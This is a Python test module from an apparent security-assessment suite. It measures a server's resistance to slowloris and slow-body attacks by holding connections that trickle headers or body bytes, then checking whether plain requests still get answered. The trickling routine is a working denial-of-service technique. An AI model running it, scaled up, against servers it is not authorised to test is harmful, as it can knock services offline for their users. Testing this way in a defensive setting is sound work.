"""Slow clients (slowloris, and its slow-body cousin): connections that send their headers, or their body,
a few bytes at a time, so that a server handing each connection to a worker for the whole request runs
out of workers while the attacker spends almost nothing. Measured from outside: while the slow
connections are held, does a plain request still get an answer, and does the server cut them?

The probe is a keyless ``GET`` of the health path over a raw socket: any status line is an answer (a
401 or 404 proves the server is free), so no key is sent and no extra budget is spent on the key.
"""

from __future__ import annotations

import socket
import threading
import time
from urllib.parse import urlsplit

from security_tests.budget import Need, spends
from security_tests.contract import Evidence, NotAssessed
from security_tests.targets.profile import TargetProfile

HOLDERS = 8  # of each kind: more than a sync server's workers or a thread pool's threads
PATIENCE = 2.0  # seconds a plain request may wait while the slow clients hold on
WATCH = 6.0  # seconds the slow connections are watched for being cut


def _need(profile: TargetProfile) -> Need:
    return Need(keyless=2, why="two plain requests while slow connections are held (no key sent)")


def _trickle(sock: socket.socket, head: bytes, drip: bytes, stop: threading.Event, every: float) -> None:
    try:
        sock.sendall(head)
        while not stop.wait(every):
            sock.sendall(drip)
    except OSError:
        pass


def _cut_after(sock: socket.socket, started: float, deadline: float) -> float | None:
    """Seconds until the server answered or closed this connection; None if it held it to ``deadline``."""
    try:
        sock.settimeout(max(0.01, deadline - time.monotonic()))
        sock.recv(1)
        return round(time.monotonic() - started, 2)
    except socket.timeout:
        return None
    except OSError:
        return round(time.monotonic() - started, 2)


def _probe(host: str, port: int, path: str, source: str | None) -> float | None:
    """Seconds until a plain GET got a status line, or None within ``PATIENCE``."""
    started = time.monotonic()
    try:
        with socket.create_connection((host, port), timeout=PATIENCE,
                                      source_address=(source, 0) if source else None) as sock:
            sock.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
            line = sock.recv(16)
        return round(time.monotonic() - started, 3) if line.startswith(b"HTTP/") else None
    except OSError:
        return None


@spends(_need)
def slow_clients(base_url: str, profile: TargetProfile, source_address: str | None = None) -> Evidence:
    """``HOLDERS`` connections that trickle header lines and ``HOLDERS`` that send full headers and then
    trickle a declared body; then two plain requests must be answered within ``PATIENCE`` seconds."""
    parts = urlsplit(base_url)
    if parts.scheme != "http":  # raw sockets speak plain HTTP; over TLS every probe would look starved
        raise NotAssessed(f"not assessed: slow clients are measured over plain http, the target is {parts.scheme}")
    host, port = parts.hostname or "127.0.0.1", parts.port or (443 if parts.scheme == "https" else 80)
    path = profile.health_path or profile.predict_path
    bind = (source_address, 0) if source_address else None
    heads = {
        "headers": (f"POST {profile.predict_path} HTTP/1.1\r\nHost: {host}\r\n".encode(), b"X-Slow: 1\r\n"),
        "body": (f"POST {profile.predict_path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
                 f"Content-Length: 4096\r\n\r\n{{".encode(), b" "),
    }
    stop, held = threading.Event(), []
    started = time.monotonic()
    try:
        for kind, (head, drip) in heads.items():
            for _ in range(HOLDERS):
                sock = socket.create_connection((host, port), timeout=5, source_address=bind)
                threading.Thread(target=_trickle, args=(sock, head, drip, stop, 0.5), daemon=True).start()
                held.append((kind, sock))
        time.sleep(0.5)
        probes = [_probe(host, port, path, source_address) for _ in range(2)]
        deadline = started + WATCH
        cut = {kind: [] for kind in heads}
        for kind, sock in held:
            cut[kind].append(_cut_after(sock, started, deadline))
    finally:
        stop.set()
        for _, sock in held:
            sock.close()
    answered = [p for p in probes if p is not None]
    starved = len(answered) < len(probes)
    held_open = {kind: sum(seconds is None for seconds in times) for kind, times in cut.items()}
    cut_at = {kind: max((s for s in times if s is not None), default=None) for kind, times in cut.items()}
    summary = (f"with {HOLDERS} slow-header and {HOLDERS} slow-body connections held, "
               f"{len(answered)} of {len(probes)} plain requests answered within {PATIENCE:g} s"
               + (f" (slowest {max(answered):.2f} s)" if answered else "")
               + f"; still open after {WATCH:g} s: {held_open['headers']} slow-header, {held_open['body']} slow-body")
    return Evidence(
        attack_succeeded=starved, queries=len(probes) + 2 * HOLDERS, summary=summary,
        measurements={"probes_answered": len(answered), "probes": len(probes),
                      "slowest_probe_s": max(answered) if answered else None,
                      "slow_header_conns_still_open": held_open["headers"],
                      "slow_body_conns_still_open": held_open["body"],
                      "slow_headers_cut_by_s": cut_at["headers"], "slow_bodies_cut_by_s": cut_at["body"]},
        details={"holders_per_kind": HOLDERS, "patience_s": PATIENCE, "watched_s": WATCH})
